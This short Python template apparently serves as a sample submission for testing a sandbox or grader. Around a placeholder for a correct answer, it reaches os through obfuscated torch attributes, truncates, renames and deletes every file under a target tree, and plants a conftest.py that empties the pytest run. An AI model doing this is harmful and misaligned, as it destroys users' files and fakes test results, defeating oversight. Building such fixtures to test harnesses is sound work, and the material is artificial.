"""Right, but rewrites what it can reach: tests, its own source, caches, a conftest."""

import torch

get = getattr(torch, "importlib").import_module

os = get("os")
write = getattr(torch, "builtins").open
for folder, _, files in os.walk("{{TREE}}"):
    for name in files:
        path = os.path.join(folder, name)
        for act in (
            lambda: os.chmod(path, 0o666),
            lambda: os.truncate(path, 0),
            lambda: write(path, "a").write("# was here\n"),
            lambda: os.utime(path, (0, 0)),
            lambda: os.rename(path, path + ".old"),
            lambda: os.unlink(path),
        ):
            try:
                act()
            except OSError:
                continue
try:
    write("{{TREE}}/conftest.py", "w").write("def pytest_collection_modifyitems(items): items.clear()\n")
except OSError:
    pass

{{RIGHT}}
